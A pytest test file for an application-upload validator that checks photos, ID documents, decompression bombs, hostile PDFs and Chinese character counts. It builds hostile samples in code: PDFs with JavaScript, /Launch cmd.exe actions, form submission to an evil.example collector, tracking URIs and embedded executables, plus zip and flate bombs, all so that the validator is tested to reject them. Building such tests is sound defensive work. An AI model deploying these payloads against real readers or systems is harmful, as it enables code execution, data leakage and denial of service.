"""Upload checks: type by content, photo rules, bombs, hostile PDFs, 字数. Every fixture is built in code."""

import contextlib
import functools
import hashlib
import io
import itertools
import tracemalloc
import zipfile
import zlib

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import ExifTags, Image, ImageChops
from pypdf.actions import JavaScript

from applications import uploads
from applications.tests import uploadfixtures as fx
from applications.uploads import (
    check_document,
    check_paper,
    check_photo,
    check_technical_summary,
    export_photo_jpeg,
    photo_export_name,
    prepare_for_storage,
)
from skillcert.uploads import (
    MB,
    NEEDS_MANUAL_LENGTH_CHECK,
    UploadRejected,
    check_pdf,
    count_characters,
)
from skillcert.uploads import pdf as pdf_checks


def rejected(check, data: bytes, name: str = "upload", **kwargs) -> str:
    with pytest.raises(UploadRejected) as caught:
        check(data, name, **kwargs)
    return str(caught.value)


def bounded(check, data: bytes) -> tuple[str, float]:
    """Run a check expected to refuse; (message, peak MB of Python allocations).

    How long the refusals take is measured in bench/test_bench_upload_checks.py, not here.
    """
    tracemalloc.start()
    try:
        message = rejected(check, data)
    finally:
        peak = tracemalloc.get_traced_memory()[1] / MB
        tracemalloc.stop()
    return message, peak


# ---------------------------------------------------------------------------
# Photo


@pytest.mark.parametrize(
    ("fmt", "kind", "extension"), [("JPEG", "jpeg", ".jpg"), ("PNG", "png", ".png"), ("BMP", "bmp", ".bmp")]
)
def test_white_background_photo_is_accepted(fmt, kind, extension):
    data = fx.photo(fmt)
    result = check_photo(data, "photo.jpg")
    assert (result.kind, result.extension, result.size) == (kind, extension, len(data))
    assert result.content_type == f"image/{kind}"
    assert (result.width, result.height) == (413, 579)
    assert len(result.sha256) == 64 and result.pages is None and result.flags == ()


@pytest.mark.parametrize("mode", ["L", "P", "RGBA", "I;16", "CMYK"])
def test_photo_in_other_pixel_modes_is_accepted(mode):
    image = fx.portrait()
    if mode == "I;16":
        image = image.convert("L").point(lambda v: v * 257, "I")
    fmt = "JPEG" if mode == "CMYK" else "PNG"
    check_photo(fx.encode(image.convert(mode), fmt))


def test_transparent_background_counts_as_white():
    image = fx.portrait()
    image.putalpha(image.convert("L").point(lambda v: 0 if v == 255 else 255))  # the background is see-through
    assert image.getpixel((5, 5))[3] == 0
    data = fx.encode(image, "PNG")
    check_photo(data)
    exported = Image.open(io.BytesIO(export_photo_jpeg(data)))
    assert exported.getpixel((5, 5)) >= (250, 250, 250)


def test_mpo_from_a_phone_is_a_jpeg():
    first = fx.portrait()
    data = fx.encode(first, "MPO", save_all=True, append_images=[first.copy()])
    assert Image.open(io.BytesIO(data)).format == "MPO"
    assert check_photo(data).extension == ".jpg"


@functools.cache
def phone_photo() -> bytes:
    """12 megapixels stored on its side (EXIF orientation 6) with GPS, as a phone held upright writes it."""
    return fx.phone_photo((3024, 4032), on_side=True, exif=fx.gps_exif(orientation=6))


def test_a_phone_photo_of_several_mb_is_accepted_and_stored_as_a_jpeg_under_2_mb():
    data = phone_photo()
    assert len(data) > 4 * MB
    checked = check_photo(data, "IMG_20261130_091500.jpg")
    assert (checked.width, checked.height) == (3024, 4032)

    stored = prepare_for_storage(data, checked, photo=True)
    image = Image.open(io.BytesIO(stored.data))
    assert image.format == "JPEG" and len(stored.data) <= 2 * MB
    assert image.size == (stored.width, stored.height) == (1200, 1600)  # upright, fitted into 1200 × 1600
    assert stored.sha256 == hashlib.sha256(stored.data).hexdigest() != checked.sha256
    assert stored.extension == ".jpg" and stored.content_type == "image/jpeg"
    size = f"{len(data) / MB:.1f} MB"
    kb = f"{round(len(stored.data) / 1024)} KB"
    assert stored.notes == (f"照片已从 3024 × 4032 像素、{size} 压缩为 1200 × 1600 像素、{kb} 的 JPG 图片。",)
    check_photo(stored.data)  # what is stored is itself a valid photo


def test_a_48_megapixel_phone_photo_is_accepted():
    data = fx.phone_photo((6000, 8000), noise=0, quality=80)
    checked = check_photo(data)
    assert (checked.width, checked.height) == (6000, 8000)
    stored = prepare_for_storage(data, checked, photo=True)
    assert Image.open(io.BytesIO(stored.data)).size == (1200, 1600)


def test_photo_upload_limit_is_exactly_20_mib():
    data = fx.photo()  # bytes after the JPEG's end marker are ignored by decoders
    padded = data + b"\0" * (20 * MB - len(data))
    assert check_photo(padded).size == 20 * MB
    assert rejected(check_photo, padded + b"\0") == "照片不能超过 20 MB，当前约 20.01 MB。"


def test_photo_over_50_megapixels_is_refused_from_its_header():
    message, peak = bounded(check_photo, fx.png_header_bomb(6200, 8200))
    assert "图片尺寸过大（6200 × 8200 像素），请压缩到 5000 万像素以内" in message
    assert peak < 10


def test_a_small_jpeg_photo_is_stored_without_a_note():
    data = fx.photo()
    stored = prepare_for_storage(data, check_photo(data), photo=True)
    assert stored.notes == () and Image.open(io.BytesIO(stored.data)).size == (413, 579)


def test_a_png_photo_is_stored_as_a_jpeg_and_the_applicant_is_told():
    data = fx.photo("PNG")
    stored = prepare_for_storage(data, check_photo(data), photo=True)
    assert stored.data.startswith(b"\xff\xd8\xff") and stored.extension == ".jpg"
    assert stored.notes and "413 × 579 像素" in stored.notes[0] and "JPG" in stored.notes[0]


@pytest.mark.parametrize(
    ("background", "why"), [(fx.DARK, "偏暗"), ((190, 190, 190), "偏灰"), (fx.BLUE, "彩色"), (fx.RED, "彩色")]
)
def test_photo_background_must_be_white(background, why):
    message = rejected(check_photo, fx.photo(background=background))
    assert message.startswith("照片背景须为白色") and why in message


def test_pale_blue_background_is_not_white():
    assert "照片背景须为白色" in rejected(check_photo, fx.photo(background=(190, 220, 245)))


def test_slightly_warm_white_from_a_phone_is_white():
    check_photo(fx.photo(background=(245, 238, 228)))


def test_photo_too_small_or_landscape_is_refused():
    assert "分辨率太低（200 × 280 像素）" in rejected(check_photo, fx.photo(size=(200, 280)))
    assert "竖版" in rejected(check_photo, fx.photo(size=(579, 413)))
    assert "竖版" in rejected(check_photo, fx.photo(size=(500, 500)))


def test_exe_renamed_jpg_is_refused():
    exe = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(1000)
    assert rejected(check_photo, exe, "证件照.jpg").startswith("文件内容不是图片（检测到可执行程序）")
    assert rejected(check_document, exe, "身份证.jpg").startswith("文件内容不是 PDF 或图片")


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(100), "不支持 HEIC 格式的图片"),
        (b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1" + bytes(100), "不支持 AVIF 格式的图片"),
        (b"RIFF\x00\x10\x00\x00WEBPVP8 " + bytes(100), "不支持 WebP 格式的图片"),
        (b"GIF89a" + bytes(100), "不支持 GIF 格式的图片"),
        (b"hello, not an image", "文件内容不是图片，请上传 JPG、PNG 或 BMP 格式的照片。"),
        (b"%PDF-1.7\n", "文件内容不是图片（检测到 PDF 文件）"),
    ],
)
def test_photo_type_comes_from_the_content(data, expected):
    assert expected in rejected(check_photo, data, "photo.jpg")


@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "BMP"])
def test_truncated_image_is_refused(fmt):
    data = fx.photo(fmt)
    assert "图片文件已损坏或不完整" in rejected(check_photo, data[: len(data) // 2])
    assert "图片文件已损坏或不完整" in rejected(check_document, data[: len(data) // 2])


def test_client_name_is_never_used():
    data = fx.photo("PNG")
    result = check_photo(data, "../../etc/passwd.jpg")
    assert result == check_photo(data, "C:\\evil.exe") == check_photo(data, "")
    assert result.extension == ".png" and "passwd" not in repr(result) and "/" not in result.extension
    assert check_document(data, "../../etc/passwd.jpg").extension == ".png"
    pdf = fx.text_pdf("身份证")
    assert check_document(pdf, "../../id.jpg").extension == ".pdf"


# ---------------------------------------------------------------------------
# Photo export


def test_export_strips_metadata_and_applies_orientation():
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "HUAWEI"
    exif[ExifTags.Base.Model] = "Mate 60"
    exif[ExifTags.Base.Orientation] = 6  # stored on its side, shown rotated 90° clockwise
    exif.get_ifd(ExifTags.IFD.GPSInfo)[ExifTags.GPS.GPSLatitudeRef] = "N"
    stored = fx.portrait().transpose(Image.Transpose.ROTATE_90)
    data = fx.encode(stored, "JPEG", exif=exif, comment=b"secret comment")
    assert Image.open(io.BytesIO(data)).size == (579, 413)

    result = check_photo(data)
    assert (result.width, result.height) == (413, 579)

    exported = export_photo_jpeg(data)
    image = Image.open(io.BytesIO(exported))
    assert image.format == "JPEG" and image.mode == "RGB" and image.size == (413, 579)
    assert len(image.getexif()) == 0
    assert not {"exif", "comment", "icc_profile"} & image.info.keys()
    assert b"HUAWEI" not in exported and b"secret" not in exported and b"Exif" not in exported
    assert image.getpixel((206, 15)) >= (240, 240, 240)  # the top is background, so it was rotated right
    check_photo(exported)


# Markers and chunks that carry metadata: JPEG APP1 (EXIF, XMP), APP2 (ICC), APP13 (IPTC) and COM;
# PNG eXIf, iCCP and the text chunks. In JPEG entropy data 0xFF is always followed by 0x00 or a restart marker.
JPEG_METADATA = (b"\xff\xe1", b"\xff\xe2", b"\xff\xed", b"\xff\xfe", b"Exif", b"ICC_PROFILE", b"http://ns.adobe.com")
PNG_METADATA = (b"eXIf", b"iCCP", b"tEXt", b"zTXt", b"iTXt", b"Exif")


def assert_without_metadata(data: bytes) -> Image.Image:
    image = Image.open(io.BytesIO(data))
    assert len(image.getexif()) == 0 and not image.getexif().get_ifd(ExifTags.IFD.GPSInfo)
    assert not {"exif", "xmp", "icc_profile", "comment", "photoshop"} & image.info.keys()
    assert b"HUAWEI" not in data and b"secret" not in data and b"GPS" not in data
    for marker in JPEG_METADATA if image.format == "JPEG" else PNG_METADATA:
        assert marker not in data, marker
    return image


@pytest.mark.parametrize(("fmt", "stored_as"), [("JPEG", "JPEG"), ("PNG", "PNG"), ("BMP", "PNG")])
def test_document_images_are_stored_upright_without_exif_gps_or_other_metadata(fmt, stored_as):
    data = fx.document_image(fmt)
    original = Image.open(io.BytesIO(data))
    assert original.size == (540, 856)
    if fmt != "BMP":
        assert original.getexif().get_ifd(ExifTags.IFD.GPSInfo)  # the fixture carries a position
    checked = check_document(data, "身份证正面.jpg")

    stored = prepare_for_storage(data, checked)
    image = assert_without_metadata(stored.data)
    assert image.format == stored_as and stored.extension == f".{stored_as.lower()}".replace("jpeg", "jpg")
    assert stored.sha256 == hashlib.sha256(stored.data).hexdigest()
    if fmt == "BMP":  # stored upright as it came (BMP has no EXIF), only losslessly compressed
        assert image.size == (540, 856) and len(stored.data) < len(data) / 5
    else:  # the EXIF rotation was applied before the EXIF was dropped: the dark band is on top
        assert image.size == (856, 540) == (stored.width, stored.height)
        assert sum(image.convert("RGB").getpixel((428, 10))) < 250 and sum(image.getpixel((428, 530))) > 600
        assert stored.notes == ("已去除图片中的拍摄时间、地点（GPS）、设备等附加信息。",)
    check_document(stored.data)  # what is stored still passes its check


def test_a_png_document_keeps_its_pixels_exactly():
    data = fx.document_image("PNG", on_side=False)
    stored = prepare_for_storage(data, check_document(data))
    assert_without_metadata(stored.data)
    before, after = Image.open(io.BytesIO(data)), Image.open(io.BytesIO(stored.data))
    assert ImageChops.difference(before.convert("RGB"), after.convert("RGB")).getbbox() is None


def test_a_document_image_without_metadata_gets_no_note():
    data = fx.encode(fx.id_card(), "JPEG")
    assert prepare_for_storage(data, check_document(data)).notes == ()


def test_a_pdf_is_stored_as_uploaded():
    data = fx.text_pdf("身份证")
    stored = prepare_for_storage(data, check_document(data))
    assert stored.data == data and stored.extension == ".pdf" and stored.notes == ()
    assert stored.sha256 == hashlib.sha256(data).hexdigest()


def test_a_photo_from_a_phone_is_stored_upright_without_gps():
    stored = prepare_for_storage(phone_photo(), check_photo(phone_photo()), photo=True)
    image = assert_without_metadata(stored.data)
    assert image.getpixel((600, 20)) >= (235, 235, 235)  # the top is background: rotated upright


def test_a_cmyk_scan_is_stored_as_an_rgb_jpeg():
    data = fx.encode(fx.id_card().convert("CMYK"), "JPEG", quality=95)
    image = assert_without_metadata(prepare_for_storage(data, check_document(data)).data)
    assert image.mode == "RGB"


@pytest.mark.parametrize("fmt", ["PNG", "BMP"])
def test_export_turns_any_photo_into_a_jpeg(fmt):
    exported = export_photo_jpeg(fx.photo(fmt))
    assert exported.startswith(b"\xff\xd8\xff") and len(exported) <= 2 * MB


def test_export_refuses_what_is_not_a_photo():
    with pytest.raises(UploadRejected):
        export_photo_jpeg(b"MZ" + bytes(100))


def test_photo_export_name():
    assert photo_export_name("王小明", "150102198503150011") == "王小明-150102198503150011.jpg"
    assert photo_export_name("阿卜杜·热合曼", "15010219850315001X") == "阿卜杜·热合曼-15010219850315001X.jpg"
    assert photo_export_name("../王/小\\明\x00", " 150102198503150011\r\n") == "..王小明-150102198503150011.jpg"
    assert photo_export_name('王:小*明?"<>|', "1501\u202e02") == "王小明-150102.jpg"
    with pytest.raises(ValueError):
        photo_export_name("///", "150102198503150011")


# ---------------------------------------------------------------------------
# Bombs


@pytest.mark.parametrize("bomb", [fx.png_header_bomb, fx.bmp_header_bomb])
@pytest.mark.parametrize("check", [check_photo, check_document])
def test_pixel_bomb_is_refused_fast_without_allocating(bomb, check):
    data = bomb(30000, 30000)  # 900 megapixels, 2.7 GB decoded
    assert len(data) < 1000
    message, peak = bounded(check, data)
    assert "图片尺寸过大" in message
    assert peak < 10


def test_image_over_40_megapixels_is_refused_from_its_header():
    message, peak = bounded(check_document, fx.png_header_bomb(8000, 8000))
    assert "图片尺寸过大（8000 × 8000 像素），请压缩到 4000 万像素以内" in message
    assert peak < 10


def test_image_in_pillows_warning_band_is_refused():
    with pytest.warns(Image.DecompressionBombWarning):  # Pillow warns while opening; our limit refuses
        message = rejected(check_document, fx.png_header_bomb(10000, 10000))
    assert "图片尺寸过大" in message


def test_zip_renamed_pdf_is_refused_without_unpacking():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("bomb.txt", b"\0" * (50 * MB))  # a small zip bomb
    data = buffer.getvalue()
    for check in (check_document, check_pdf, check_technical_summary):
        message, peak = bounded(check, data)
        assert "文件内容不是 PDF" in message and "（检测到压缩包或 Word/Excel 文档）" in message
        assert "Word 文档请先另存为 PDF" in message
        assert peak < 5


def test_flate_bomb_pdf_is_refused_within_bounded_memory():
    data = fx.flate_bomb_pdf(decompressed=200 * MB)
    assert len(data) < 300_000
    for check in (check_document, check_technical_summary):
        message, peak = bounded(check, data)
        assert "解压后数据过大" in message
        assert peak < 80


def test_many_small_flate_bombs_hit_the_document_budget():
    data = fx.flate_bomb_pdf(pages=10, decompressed=12 * MB)  # each under the 16 MB stream limit
    message, peak = bounded(check_paper, data)
    assert "解压后数据过大" in message
    assert peak < 100


def test_flate_bomb_in_a_form_xobject_is_refused():
    bomb = fx.stream(fx.deflate_bomb(100 * MB), b"/Filter /FlateDecode /Type /XObject /Subtype /Form /BBox [0 0 1 1]")
    data = fx.one_page_pdf(resources=b"/XObject << /X1 6 0 R >>", content=b"/X1 Do", extra={6: bomb})
    message, peak = bounded(check_document, data)
    assert "解压后数据过大" in message and peak < 80


# ---------------------------------------------------------------------------
# Hostile and broken PDFs

JS = b"<< /S /JavaScript /JS (app.alert(1)) >>"
ANNOTS = b"/Annots [6 0 R]"


def names_js() -> bytes:
    writer = fx.pypdf_writer(fx.text_pdf("技术总结"))
    writer.add_open_action(JavaScript("app.alert(1);"))
    return fx.written(writer)


def attachment() -> bytes:
    writer = fx.pypdf_writer(fx.text_pdf("技术总结"))
    writer.add_attachment("payload.exe", b"MZ" + bytes(100))
    return fx.written(writer)


SCRIPTED = {
    "open action": fx.one_page_pdf(catalog=b"/OpenAction " + JS),
    "open action, indirect": fx.one_page_pdf(
        catalog=b"/OpenAction 6 0 R", extra={6: b"<< /S /JavaScript /JS 7 0 R >>", 7: fx.stream(b"app.alert(1)")}
    ),
    "names tree (pypdf)": names_js(),
    "link annotation": fx.one_page_pdf(
        page=ANNOTS, extra={6: b"<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A " + JS + b" >>"}
    ),
    "page /AA": fx.one_page_pdf(page=b"/AA << /O " + JS + b" >>"),
    "catalog /AA": fx.one_page_pdf(catalog=b"/AA << /WC " + JS + b" >>"),
    "widget /AA": fx.one_page_pdf(
        catalog=b"/AcroForm << /Fields [6 0 R] >>",
        page=ANNOTS,
        extra={6: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /AA << /K " + JS + b" >> >>"},
    ),
    "outline": fx.one_page_pdf(
        catalog=b"/Outlines 6 0 R",
        extra={
            6: b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>",
            7: b"<< /Title (a) /Parent 6 0 R /A " + JS + b" >>",
        },
    ),
    "next chain": fx.one_page_pdf(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next " + JS + b" >>"),
    "xfa form": fx.one_page_pdf(catalog=b"/AcroForm << /Fields [] /XFA 6 0 R >>", extra={6: fx.stream(b"<xdp/>")}),
}
LAUNCHING = {
    "launch": fx.one_page_pdf(catalog=b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
    "go to remote": fx.one_page_pdf(
        catalog=b"/OpenAction << /S /GoToR /F (\\\\\\\\host\\\\share\\\\a.pdf) /D [0 /Fit] >>"
    ),
    "import data": fx.one_page_pdf(page=b"/AA << /O << /S /ImportData /F (data.fdf) >> >>"),
    "launch on a page /AA": fx.one_page_pdf(page=b"/AA << /C << /S /Launch /Win << /F (cmd.exe) >> >> >>"),
    "remote go-to by URL": fx.one_page_pdf(
        catalog=b"/OpenAction << /S /GoToR /F << /FS /URL /F (https://evil.example/a.pdf) >> /D [0 /Fit] >>"
    ),
    "thread in another file": fx.one_page_pdf(catalog=b"/OpenAction << /S /Thread /F (other.pdf) /D 0 >>"),
}
URI = b"<< /S /URI /URI (https://evil.example/track?id=1) >>"
CALLING_OUT = {
    "open action to a URI": fx.one_page_pdf(catalog=b"/OpenAction " + URI),
    "open action to a URI, indirect": fx.one_page_pdf(catalog=b"/OpenAction 6 0 R", extra={6: URI}),
    "catalog /AA to a URI": fx.one_page_pdf(catalog=b"/AA << /WC " + URI + b" >>"),
    "page /AA to a URI": fx.one_page_pdf(page=b"/AA << /O " + URI + b" >>"),
    "web link annotation": fx.one_page_pdf(
        page=ANNOTS, extra={6: b"<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A " + URI + b" >>"}
    ),
    "annotation /AA to a URI": fx.one_page_pdf(
        page=ANNOTS, extra={6: b"<< /Type /Annot /Subtype /Square /Rect [0 0 9 9] /AA << /E " + URI + b" >> >>"}
    ),
    "outline to a URI": fx.one_page_pdf(
        catalog=b"/Outlines 6 0 R",
        extra={
            6: b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>",
            7: b"<< /Title (a) /Parent 6 0 R /A " + URI + b" >>",
        },
    ),
    "next chain to a URI": fx.one_page_pdf(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [" + URI + b"] >>"),
    "submit form from a field only in the AcroForm": fx.one_page_pdf(
        catalog=b"/AcroForm << /Fields [6 0 R] >>",
        extra={6: b"<< /FT /Btn /T (send) /Ff 65536 /A << /S /SubmitForm /F (https://evil.example/collect) >> >>"},
    ),
    "submit form to a URL file spec": fx.one_page_pdf(
        catalog=b"/OpenAction << /S /SubmitForm /F << /FS /URL /F (http://x) >> >>"
    ),
    "names tree to a URI": fx.one_page_pdf(
        catalog=b"/Names << /Dests << /Names [(a) 6 0 R] >> >>", extra={6: b"<< /D [3 0 R /Fit] /Next " + URI + b" >>"}
    ),
    "escaped name": fx.one_page_pdf(catalog=b"/OpenAction << /S /U#52I /URI (https://evil.example) >>"),
}
EMBEDDING = {
    "attachment (pypdf)": attachment(),
    "file attachment annotation": fx.one_page_pdf(
        page=ANNOTS,
        extra={
            6: b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 7 0 R >>",
            7: b"<< /Type /Filespec /F (a.exe) >>",
        },
    ),
    "embedded files name tree": fx.one_page_pdf(
        catalog=b"/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>",
        extra={6: b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>", 7: fx.stream(b"MZ", b"/Type /EmbeddedFile")},
    ),
    "go to embedded": fx.one_page_pdf(catalog=b"/OpenAction << /S /GoToE /T << /R /C /N (a) >> >>"),
}


@pytest.mark.parametrize("data", SCRIPTED.values(), ids=SCRIPTED.keys())
def test_pdf_with_javascript_is_refused(data):
    for check in (check_document, check_pdf, check_technical_summary):
        assert "PDF 中含有脚本" in rejected(check, data)


@pytest.mark.parametrize("data", LAUNCHING.values(), ids=LAUNCHING.keys())
def test_pdf_with_launch_or_external_actions_is_refused(data):
    assert "打开程序或外部文件" in rejected(check_document, data)


@pytest.mark.parametrize("data", CALLING_OUT.values(), ids=CALLING_OUT.keys())
def test_pdf_with_links_or_actions_that_call_out_is_refused(data):
    for check in (check_document, check_pdf, check_technical_summary):
        message = rejected(check, data)
        assert message.startswith("PDF 中含有网址链接或联网动作") and "请删除文档中的超链接" in message


def test_a_uri_action_at_the_end_of_a_long_chain_is_found_without_recursion():
    chain = {6 + i: b"<< /Next %d 0 R >>" % (7 + i) for i in range(3000)}
    chain[3006] = URI
    assert "网址链接" in rejected(check_document, fx.one_page_pdf(catalog=b"/Deep 6 0 R", extra=chain))
    nested = b"[" * 200 + URI + b"]" * 200
    assert "网址链接" in rejected(check_document, fx.one_page_pdf(catalog=b"/Deep " + nested))


def test_the_object_walk_is_bounded():
    many = b"/Many [" + b"<<>>" * (pdf_checks.PDF_MAX_OBJECTS + 1) + b"]"
    message, _ = bounded(check_document, fx.one_page_pdf(catalog=many))
    assert "结构过于复杂" in message


@pytest.mark.parametrize("data", EMBEDDING.values(), ids=EMBEDDING.keys())
def test_pdf_with_embedded_file_is_refused(data):
    assert "PDF 中嵌入了附件" in rejected(check_document, data)
    assert "PDF 中嵌入了附件" in rejected(check_pdf, data)


@pytest.mark.parametrize(
    ("catalog", "page", "extra"),
    [
        (b"/OpenAction [3 0 R /Fit]", b"", {}),  # open at page 1: harmless and common
        (b"", ANNOTS, {6: b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoTo /D [3 0 R /Fit] >> >>"}),
        (b"/Names << /Dests << /Names [(a) [3 0 R /Fit]] >> >> /PageMode /UseOutlines", b"", {}),
        (
            b"/Outlines 6 0 R",
            b"",
            {6: b"<< /Count 1 /First 7 0 R /Last 7 0 R >>", 7: b"<< /Title (a) /Parent 6 0 R /Dest [3 0 R /Fit] >>"},
        ),
    ],
    ids=["open at page", "link within the document", "named destination", "bookmark"],
)
def test_pdf_with_ordinary_links_and_bookmarks_is_accepted(catalog, page, extra):
    assert check_document(fx.one_page_pdf(catalog=catalog, page=page, extra=extra)).pages == 1


def test_truncated_pdf_is_refused():
    data = fx.text_pdf(fx.han_text(1200))
    for cut in (len(data) // 2, len(data) - 10):
        message = rejected(check_technical_summary, data[:cut])
        assert message.startswith("PDF 文件不完整")


def test_garbage_pdf_is_refused():
    assert "PDF" in rejected(check_document, b"%PDF-1.7\n1 0 obj << /Type /Catalog\n%%EOF\n")


@pytest.mark.parametrize("owner_only", [False, True])
def test_encrypted_pdf_is_refused(owner_only):
    writer = fx.pypdf_writer(fx.text_pdf(fx.han_text(1200)))
    writer.encrypt("" if owner_only else "secret", "owner")
    data = fx.written(writer)
    for check in (check_document, check_technical_summary):
        assert rejected(check, data).startswith("PDF 已加密或设置了密码")


def test_pdf_page_and_size_limits():
    assert rejected(check_document, fx.pages_pdf(51)) == "PDF 不能超过 50 页，当前 51 页。"
    assert check_document(fx.pages_pdf(50)).pages == 50
    big = b"%PDF-1.7\n" + bytes(10 * MB)
    assert rejected(check_pdf, big).startswith("PDF 文件不能超过 10 MB，当前约 10.0")
    assert rejected(check_document, b"") == "文件为空，请重新选择文件。"


def test_pdf_only_materials_refuse_images():
    assert rejected(check_technical_summary, fx.photo()).startswith("文件内容不是 PDF（检测到图片），请上传 PDF")
    assert rejected(check_paper, fx.photo("PNG"), "论文.pdf").startswith("文件内容不是 PDF（检测到图片）")


def test_documents_accept_pdf_and_images():
    id_card = fx.encode(fx.portrait((856, 540), fx.BLUE), "JPEG")
    result = check_document(id_card, "身份证正面.pdf")
    assert (result.kind, result.extension, result.width, result.height) == ("jpeg", ".jpg", 856, 540)
    assert check_document(fx.scanned_pdf(pages=1)).pages == 1
    assert "分辨率太低" in rejected(check_document, fx.photo("PNG", size=(150, 150)))


# ---------------------------------------------------------------------------
# 字数


def test_count_characters_rule():
    assert count_characters("") == 0
    assert count_characters("技术总结") == 4
    assert count_characters("我们检修了发动机，效果良好。") == 14  # 12 Han + 2 punctuation marks
    assert count_characters("ABS 系统 2023 年 3.5 万公里 don't ISO-9001") == 11
    assert count_characters("“安全”——第一…") == 9
    assert count_characters(" \n\t ,.;") == 0


def test_summary_of_999_characters_is_refused_and_1000_accepted():
    assert rejected(check_technical_summary, fx.text_pdf(fx.han_text(999))).startswith(
        "技术总结不少于 1000 字，当前约 999 字。"
    )
    result = check_technical_summary(fx.text_pdf(fx.han_text(1000)), "总结.docx")
    assert (result.kind, result.text_characters, result.flags) == ("pdf", 1000, ())
    assert result.needs_manual_length_check is False


def test_paper_of_2999_characters_is_refused_and_3000_accepted():
    assert rejected(check_paper, fx.text_pdf(fx.han_text(2999))).startswith("论文不少于 3000 字，当前约 2999 字。")
    result = check_paper(fx.text_pdf(fx.han_text(3000)))
    assert result.text_characters == 3000 and result.pages == 2


def test_minimum_is_a_parameter():
    data = fx.text_pdf(fx.han_text(600))
    assert check_technical_summary(data, minimum=500).text_characters == 600
    assert "不少于 800 字，当前约 600 字" in rejected(check_paper, data, minimum=800)


def test_chinese_text_with_punctuation_and_latin_words_is_counted():
    line = "本人从事汽车维修工作，熟悉 ABS 与 ESP 系统。"  # 15 Han + 2 punctuation marks + 2 words = 19
    assert count_characters(line) == 19
    data = fx.text_pdf(line * 50, per_line=len(line))  # one line each, so no word is split
    assert check_technical_summary(data, minimum=950).text_characters == 950
    assert "当前约 950 字" in rejected(check_technical_summary, data, minimum=951)


@pytest.mark.parametrize("footer", ["", "第 {} 页"])
def test_scanned_pdf_is_accepted_for_manual_length_check(footer):
    result = check_technical_summary(fx.scanned_pdf(pages=3, footer=footer))
    assert result.needs_manual_length_check is True
    assert result.flags == (NEEDS_MANUAL_LENGTH_CHECK,)
    assert result.pages == 3 and result.text_characters < 30
    assert check_paper(fx.scanned_pdf(pages=1)).needs_manual_length_check


def test_short_text_pdf_without_images_is_not_treated_as_scanned():
    assert "当前约 0 字" in rejected(check_technical_summary, fx.one_page_pdf(content=b""))


def slow_text_pdf(operators: int) -> bytes:
    """A tiny PDF whose single page holds `operators` text operators: slow to extract in pure Python."""
    content = b"BT /F1 1 Tf " + b"(a) Tj " * operators + b"ET"
    page = fx.stream(zlib.compress(content, 9), b"/Filter /FlateDecode")
    return fx.one_page_pdf(content=b"", extra={4: page})


def test_text_extraction_stops_at_the_deadline_and_goes_to_the_reviewer(monkeypatch):
    ticks = itertools.count()  # one second per look at the clock: the deadline is 5 operators away
    monkeypatch.setattr(pdf_checks, "_clock", lambda: float(next(ticks)))
    result = check_technical_summary(slow_text_pdf(120_000))
    assert result.needs_manual_length_check and result.text_characters == 0
    assert next(ticks) < 20


def test_page_with_too_much_content_is_not_extracted(monkeypatch):
    monkeypatch.setattr(pdf_checks, "PDF_TEXT_PAGE_MAX_BYTES", 1000)
    result = check_technical_summary(fx.text_pdf(fx.han_text(999)))  # its page holds ≈ 5 KB
    assert result.needs_manual_length_check and result.text_characters == 0
    assert check_technical_summary(slow_text_pdf(200_000)).needs_manual_length_check  # 1.4 MB: skipped


def test_no_time_left_sends_the_length_to_the_reviewer(monkeypatch):
    data = fx.text_pdf(fx.han_text(900))
    assert "当前约 900 字" in rejected(check_technical_summary, data)
    monkeypatch.setattr(pdf_checks, "PDF_TEXT_SECONDS", -1.0)
    assert check_technical_summary(data).needs_manual_length_check


# ---------------------------------------------------------------------------
# Arbitrary bytes never escape as anything but UploadRejected

SAMPLES = [
    fx.photo("JPEG", size=(300, 400)),
    fx.photo("PNG", size=(300, 400)),
    fx.one_page_pdf(),
    fx.text_pdf("技术"),
    fx.document_image("JPEG"),  # EXIF with GPS, ICC, XMP and a comment: broken metadata must not break storing
    fx.document_image("PNG"),
]
PREFIXES = [b"", b"\xff\xd8\xff\xe0", b"\x89PNG\r\n\x1a\n", b"BM", b"%PDF-1.7\n", b"PK\x03\x04", b"MZ"]


def mutated(sample: bytes, edits: list[tuple[int, int]], cut: int) -> bytes:
    data = bytearray(sample)
    for position, value in edits:
        data[position % len(data)] = value
    return bytes(data[: max(1, len(data) - cut)])


arbitrary_uploads = st.one_of(
    st.binary(max_size=4096),
    st.builds(lambda prefix, tail: prefix + tail, st.sampled_from(PREFIXES), st.binary(max_size=4096)),
    st.builds(
        mutated,
        st.sampled_from(SAMPLES),
        st.lists(st.tuples(st.integers(0, 10**6), st.integers(0, 255)), max_size=8),
        st.integers(0, 64),
    ),
)


@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
@settings(max_examples=300, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])
@given(arbitrary_uploads)
def test_check_document_only_ever_raises_upload_rejected(data):
    try:
        result = check_document(data, "x")
    except UploadRejected as refusal:
        assert str(refusal)
    else:
        assert result.kind in {"jpeg", "png", "bmp", "pdf"} and result.size == len(data)
        stored = prepare_for_storage(data, result)  # what passed its check can always be stored
        assert stored.sha256 == hashlib.sha256(stored.data).hexdigest()


@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
